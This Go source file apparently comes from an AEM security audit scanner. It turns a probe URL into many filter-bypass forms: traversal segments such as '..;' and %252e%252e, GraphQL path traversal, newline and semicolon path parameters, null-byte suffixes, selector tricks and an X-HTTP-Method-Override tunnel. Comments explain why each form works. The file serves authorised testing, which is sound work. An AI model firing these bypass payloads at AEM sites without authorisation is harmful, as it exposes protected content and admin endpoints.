package audit

import (
	"strings"
	"unicode"
)

// An Operator is a way to write a URL so that a filter sees another one than AEM does. Its name is what outputs call it.
type Operator string

// The operators. AsIs leaves a probe as it is.
const (
	AsIs             Operator = "as it is"
	ExtensionFlip    Operator = "extension flip"
	NewlineParameter Operator = "newline parameter"
	PathParameter    Operator = "path parameter"
	GraphQLParameter Operator = "GraphQL parameter"
	GraphQLTraversal Operator = "GraphQL traversal"
	ProxyParameter   Operator = "proxy parameter"
	Suffix           Operator = "suffix"
	QueryExtension   Operator = "query extension"
	Slashes          Operator = "multiple slashes"
	DottedSelectors  Operator = "dotted selectors"
	UnicodeDigits    Operator = "unicode digits"
	ParentParameter  Operator = "parent by parameter"
	BracketParent    Operator = "parent in brackets"
	EncodedParent    Operator = "encoded parent"
	EncodedSlash     Operator = "encoded slash"
	EncodedLetter    Operator = "encoded letter"
	TrailingControl  Operator = "trailing control character"
	LetterCase       Operator = "letter case"
	SelectorWrap     Operator = "selector wrap"
	FormSelector     Operator = "form selector"
	MethodTunnel     Operator = "method tunnel"
)

// Why says in one sentence what an operator hopes for; "" for AsIs.
func (o Operator) Why() string {
	switch o {
	case ExtensionFlip:
		return "a rule for files of a kind looks at the last extension; AEM takes what stands before it for a selector and finds the same servlet"
	case NewlineParameter:
		return "what follows a ; is a parameter to AEM, and the extension behind it is all that a filter sees"
	case PathParameter, GraphQLParameter, ProxyParameter:
		return "AEM takes a parameter off the path; a pattern that is not anchored finds its text in it"
	case GraphQLTraversal, EncodedParent, EncodedSlash:
		return "who decodes later than the filter sees another path"
	case Suffix:
		return "AEM takes what follows an extension for a suffix; a filter may take it for the file"
	case QueryExtension:
		return "a glob over the whole request line finds its extension in the query"
	case Slashes:
		return "AEM reads several slashes as one; a pattern may not"
	case DottedSelectors, UnicodeDigits, SelectorWrap:
		return "a deny rule lists selectors; more of them, or other digits, are not on its list"
	case ParentParameter, BracketParent:
		return "some servlet engines read the segment as .., behind the filter"
	case EncodedLetter:
		return "a pattern sees the text before it is decoded"
	case TrailingControl:
		return "a pattern that ends with $ or an extension stumbles over the character"
	case LetterCase:
		return "patterns mind letter case"
	case FormSelector:
		return "the form servlet renders the path in the suffix"
	case MethodTunnel:
		return "AEM takes the method from a header, the filter from the request line"
	}
	return ""
}

// extensions are those of files that filters often allow everywhere.
func extensions() []string { return []string{"css", "js", "html", "png", "ico", "gif", "pdf"} }

// Forms calls f with each form of a probe: as it is, then as each operator makes it. target is that of the probe without
// placeholders, selectors are words that the site's own rules allow as selectors. Of a [MethodTunnel] the request has the header
// X-HTTP-Method-Override: GET. Forms may come twice.
//
// The operators are those of public scanners: 0ang3el/aem-hacker, hacktivesec/AEM-hacker2, assetnote/hopgoblin,
// Netcentric/pickaxe-security-scanner, projectdiscovery/nuclei-templates, shinesolutions/inspec-aem-security.
func (p *Probe) Forms(target string, selectors []string, f func(o Operator, method, target string)) {
	f(AsIs, p.Method, target)
	if p.Only {
		return
	}
	path, query, has := strings.Cut(target, "?")
	if has {
		query = "?" + query
	}
	out := func(o Operator, path string) { f(o, p.Method, path+query) }
	bare := strings.TrimSuffix(path, "/")
	for _, e := range extensions() {
		out(ExtensionFlip, bare+"."+e)
	}
	for _, e := range extensions() {
		out(NewlineParameter, path+";%0axyz."+e)
	}
	out(NewlineParameter, path+";%0a;%0a;%0a;%0axyz.css")
	out(PathParameter, path+";")
	for _, e := range [...]string{"css", "html"} {
		out(PathParameter, path+";x='."+e+"/x'")
	}
	out(PathParameter, path+";x='x/.ico/y'")
	out(GraphQLParameter, path+";x='x/graphql/execute/json/x'")
	out(GraphQLTraversal, "/graphql/execute.json/..%2f.."+path)
	out(GraphQLTraversal, "/graphql/execute.json/..%2f../"+path)
	for _, text := range [...]string{"/content/test-site/", "/crx/de/", "/api/graphql"} {
		out(ProxyParameter, path+";x='"+text+"'")
	}
	for _, e := range extensions() {
		out(Suffix, bare+"/xyz."+e)
	}
	last := bare[strings.LastIndexByte(bare, '/')+1:]
	json := bare
	if !strings.Contains(last, ".") {
		json += ".json"
	}
	out(Suffix, json+"///a.css")
	out(Suffix, json+"/a.1.json")
	if json != bare {
		out(Suffix, json+"/xyz.css")
	}
	joined := "?"
	if has {
		joined = "&"
	}
	for _, tail := range [...]string{"xyz.css", "xyz.html", ".ico"} {
		f(QueryExtension, p.Method, path+query+joined+tail)
	}
	out(Slashes, "/"+path)
	out(Slashes, strings.ReplaceAll(path, "/", "///"))
	out(DottedSelectors, bare+"....4.2.1....json")
	out(DottedSelectors, bare+".4.2.1...json")
	out(UnicodeDigits, bare+".%D9%A1.json")
	out(UnicodeDigits, bare+".%DB%B4.%E0%A5%A9.json")
	for _, up := range [...]string{"/content/..;", "/content/dam/..;/..;", "/etc/..;", "/libs/..;", "/content/..%3b", "/content/..;;"} {
		out(ParentParameter, up+path)
	}
	out(ParentParameter, "/content/..;"+bare+".css")
	out(BracketParent, "/content/.[."+path)
	out(BracketParent, "/content/.{.}"+path)
	out(EncodedParent, "/content/.."+path)
	out(EncodedParent, "/content/%2e%2e"+path)
	out(EncodedParent, "/content/%252e%252e"+path)
	if i := strings.IndexByte(path[min(1, len(path)):], '/'); i >= 0 {
		out(EncodedSlash, path[:i+1]+"%2f"+path[i+2:])
		out(EncodedSlash, path[:i+1]+"%252f"+path[i+2:])
	}
	if i := strings.LastIndexFunc(path, letter); i >= 0 {
		out(EncodedLetter, path[:i]+escaped(path[i])+path[i+1:])
	}
	out(TrailingControl, path+"%00.html")
	out(TrailingControl, path+"%0a")
	out(TrailingControl, path+"%09")
	out(TrailingControl, bare+".%2e")
	if up := strings.ToUpper(path); up != path && !strings.Contains(path, "%") {
		out(LetterCase, up)
	}
	if i := strings.LastIndexByte(last, '.'); i >= 0 {
		if up := strings.ToUpper(last[i:]); up != last[i:] {
			out(LetterCase, bare[:len(bare)-len(last)+i]+up)
		}
	}
	if i := strings.LastIndexByte(last, '.'); p.Page && i > 0 && strings.IndexByte(last, '.') < i {
		at := len(bare) - len(last)
		first := at + strings.IndexByte(last, '.')
		for _, s := range selectors {
			out(SelectorWrap, bare[:first]+"."+s+bare[first:])
			out(SelectorWrap, bare[:at+i]+"."+s+bare[at+i:])
		}
	}
	out(FormSelector, "/content/dam/formsanddocuments.form.validator.html"+path)
	if p.Method == "GET" {
		f(MethodTunnel, "POST", target)
	}
}

func letter(r rune) bool { return r < unicode.MaxASCII && unicode.IsLetter(r) }

// escaped is a byte as it stands in a URL that hides it.
func escaped(c byte) string {
	const hex = "0123456789abcdef"
	return string([]byte{'%', hex[c>>4], hex[c&15]})
}
